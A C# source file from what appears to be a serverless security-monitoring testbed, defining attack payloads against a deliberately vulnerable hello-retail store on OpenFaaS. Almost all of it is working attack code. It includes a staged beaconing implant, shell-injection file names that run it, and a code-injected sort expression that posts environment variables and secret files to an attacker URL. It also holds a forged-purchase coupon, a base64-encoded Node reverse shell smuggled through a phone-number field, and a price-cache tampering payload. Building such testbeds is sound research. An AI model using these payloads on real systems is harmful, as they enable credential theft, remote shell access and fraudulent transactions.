using System.Security.Cryptography;
using System.Text;

namespace FaaSMon.Workload;

/// <summary>
/// The malicious inputs of each attack family, built as text exactly as they travel in a request. Kept apart from the
/// scenarios so tests can check (and run) each payload against the same vulnerable construct the function uses.
/// </summary>
internal static class AttackPayloads
{
    /// <summary>The product every attack aims at: seeded in every hello-retail store.</summary>
    public const string VictimProduct = "p-cam-001";

    public const string VictimCategory = "cameras";

    public const string CatalogCacheFile = "/tmp/catalog-cache.json";

    public const string StagedFileName = "evil.sh";

    /// <summary>
    /// Resolves a Node built-in from inside a <c>new Function</c> body, where <c>require</c> is not in scope:
    /// <c>process.mainModule.require</c> in a CommonJS entry point, <c>process.getBuiltinModule</c> (Node ≥ 20.16) otherwise.
    /// </summary>
    private const string NodeRequire =
        "(process.mainModule?process.mainModule.require.bind(process.mainModule):process.getBuiltinModule)";

    /// <summary>A fresh nonce per attack run; never seeded, so two runs never confuse each other's callbacks.</summary>
    public static string NewNonce() => Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(8));

    // ---- container-reuse ------------------------------------------------------------------------------------------

    /// <summary>
    /// The implant staged in a warm container's /tmp. It is generic (C2 address and nonce come as arguments from the
    /// trigger) so an evil.sh left by an earlier run, which product-photos-receive reuses instead of downloading, still
    /// phones home to this run's attacker server.
    /// </summary>
    public static string EvilScript { get; } =
        "#!/bin/sh\n" +
        "# staged by one invocation, run by a later one in the same warm container; usage: evil.sh HOST:PORT NONCE\n" +
        "exec node -e 'fetch(\"http://\"+process.argv[1]+\"/beacon?nonce=\"+encodeURIComponent(process.argv[2])" +
        "+\"&host=\"+encodeURIComponent(require(\"os\").hostname()),{signal:AbortSignal.timeout(5000)})" +
        ".catch(()=>process.exit(1))' \"$1\" \"$2\"\n";

    /// <summary>Invocation A: product-photos-receive downloads this into /tmp/evil.sh.</summary>
    public static Uri ContainerReuseStageUrl(Uri attacker, string nonce) => new(attacker, $"stage/{nonce}/{StagedFileName}");

    /// <summary>
    /// The file name of invocation B. It lands inside <c>sha256sum "NAME"</c>, run by a shell in /tmp: it hashes the staged
    /// evil.sh (so the function finds a checksum and answers 200 as for any photo), closes the quote, makes evil.sh
    /// executable and runs it. It holds no '/': product-photos-receive refuses such names (it writes the download to
    /// /tmp/NAME first), so <c>./evil.sh</c> is spelt <c>PATH=.:$PATH evil.sh</c>, which still execs /tmp/evil.sh.
    /// </summary>
    public static string ContainerReuseTriggerName(Uri attacker, string nonce) =>
        $"{StagedFileName}\";chmod +x {StagedFileName};PATH=.:$PATH {StagedFileName} {attacker.Authority} {nonce};echo \"";

    /// <summary>Invocation B's URL: the trigger name percent-encoded as the last path segment.</summary>
    public static Uri ContainerReuseTriggerUrl(Uri attacker, string nonce) =>
        new(attacker, $"stage/{nonce}/{Uri.EscapeDataString(ContainerReuseTriggerName(attacker, nonce))}");

    // ---- credential-theft -----------------------------------------------------------------------------------------

    /// <summary>
    /// A catalog <c>sort</c> expression (compiled as a comparator body) that, once per invocation, POSTs the environment
    /// and every file of the secret mount to the attacker, and otherwise sorts by price so the answer looks normal.
    /// </summary>
    public static string CredentialTheftSort(Uri attacker, string nonce)
    {
        var exfil = new Uri(attacker, $"exfil?nonce={nonce}");
        return
            $"(globalThis.__c{nonce}||(globalThis.__c{nonce}=1,(()=>{{" +
            $"const fs={NodeRequire}(\"fs\"),d=process.env.secret_mount_path||\"/var/openfaas/secrets\",s={{}};" +
            "try{for(const f of fs.readdirSync(d)){try{s[f]=fs.readFileSync(d+\"/\"+f,\"utf8\")}catch(e){}}}catch(e){}" +
            $"fetch(\"{exfil}\",{{method:\"POST\",headers:{{\"content-type\":\"application/json\"}}," +
            "body:JSON.stringify({env:process.env,secrets:s})}).catch(()=>{})" +
            "})()),a.price-b.price)";
    }

    // ---- lateral-movement -----------------------------------------------------------------------------------------

    public static string ForgedUser(string nonce) => $"mallory-{nonce}";

    public static string ForgedAuthorization(string nonce) => $"forged-{nonce}";

    /// <summary>
    /// A get-price coupon formula that, from inside get-price, publishes a purchase nobody authenticated or paid for
    /// (no call id, no trace: nothing legitimate is forwarded), then returns the undiscounted price.
    /// </summary>
    public static string LateralMovementCoupon(string nonce) =>
        $"(globalThis.__l{nonce}||(globalThis.__l{nonce}=1," +
        "fetch((process.env.gateway_url||\"http://gateway.openfaas:8080\").replace(/\\/+$/,\"\")+\"/function/product-purchase-publish\"," +
        "{method:\"POST\",headers:{\"content-type\":\"application/json\"}," +
        $"body:JSON.stringify({{user:\"{ForgedUser(nonce)}\",product:\"{VictimProduct}\",quantity:1,total:0.01," +
        $"authorization:\"{ForgedAuthorization(nonce)}\"}})}}).catch(()=>{{}})),+price)";

    // ---- reverse-shell --------------------------------------------------------------------------------------------

    /// <summary>
    /// The script the injected command decodes and runs: Node connects back and pipes /bin/sh -i to the socket. The socket
    /// ends on the shell's "close", not "exit": "exit" can come before the shell's last output has been read from its pipes.
    /// </summary>
    public static string ReverseShellScript(string host, int port) =>
        "#!/bin/sh\n" +
        "exec node -e '" +
        $"const s=require(\"net\").connect({port},\"{host}\",()=>{{" +
        "const p=require(\"child_process\").spawn(\"/bin/sh\",[\"-i\"],{stdio:[\"pipe\",\"pipe\",\"pipe\"]});" +
        "s.pipe(p.stdin);p.stdout.pipe(s,{end:false});p.stderr.pipe(s,{end:false});p.on(\"close\",()=>s.end())});" +
        "s.on(\"error\",()=>process.exit(1))'\n";

    /// <summary>
    /// A "phone number" for product-photos-message, which runs <c>echo "To PHONE: TEXT" &gt;&gt; /tmp/outbox.log</c> in a
    /// shell: it closes the quote, starts the decoded script in the background (detached from the function's pipes, so the
    /// function answers at once) and reopens the quote.
    /// </summary>
    public static string ReverseShellPhone(string host, int port) =>
        $"x\"; echo {Convert.ToBase64String(Encoding.UTF8.GetBytes(ReverseShellScript(host, port)))} | base64 -d | sh >/dev/null 2>&1 & echo \"";

    /// <summary>What the listener types into the shell; the answer line proves remote execution and names the uid.</summary>
    public static string ReverseShellProbe(string nonce) => $"echo FAASMON-{nonce}-$(id -u)\nexit\n";

    public static string ReverseShellMarker(string nonce) => $"FAASMON-{nonce}-";

    // ---- tampering ------------------------------------------------------------------------------------------------

    /// <summary>
    /// A catalog <c>sort</c> expression that rewrites the warm product cache: every product it sorted is kept, the victim
    /// product gets price 0.01 and a <c>tampered</c> marker, and the cache never expires. The write is deferred (200 ms)
    /// so it lands after anything the function itself writes while answering this request.
    /// </summary>
    public static string TamperingSort(string nonce) =>
        "((g,k)=>(g[k]||(g[k]={},setTimeout(()=>{try{" +
        $"const fs={NodeRequire}(\"fs\"),f=\"{CatalogCacheFile}\";let c={{}};" +
        "try{c=JSON.parse(fs.readFileSync(f,\"utf8\"))}catch(e){}" +
        "const products=Object.assign({},g[k],c.products||{});" +
        $"const victim=products[\"{VictimProduct}\"]||{{id:\"{VictimProduct}\",category:\"{VictimCategory}\"}};" +
        $"products[\"{VictimProduct}\"]=Object.assign({{}},victim,{{price:0.01,tampered:\"{nonce}\"}});" +
        "fs.writeFileSync(f,JSON.stringify(Object.assign(c,{expires:Date.now()+315360000000,products})))" +
        "}catch(e){}},200)),g[k][a.id]=a,g[k][b.id]=b,a.price-b.price))" +
        $"(globalThis,\"__t{nonce}\")";
}
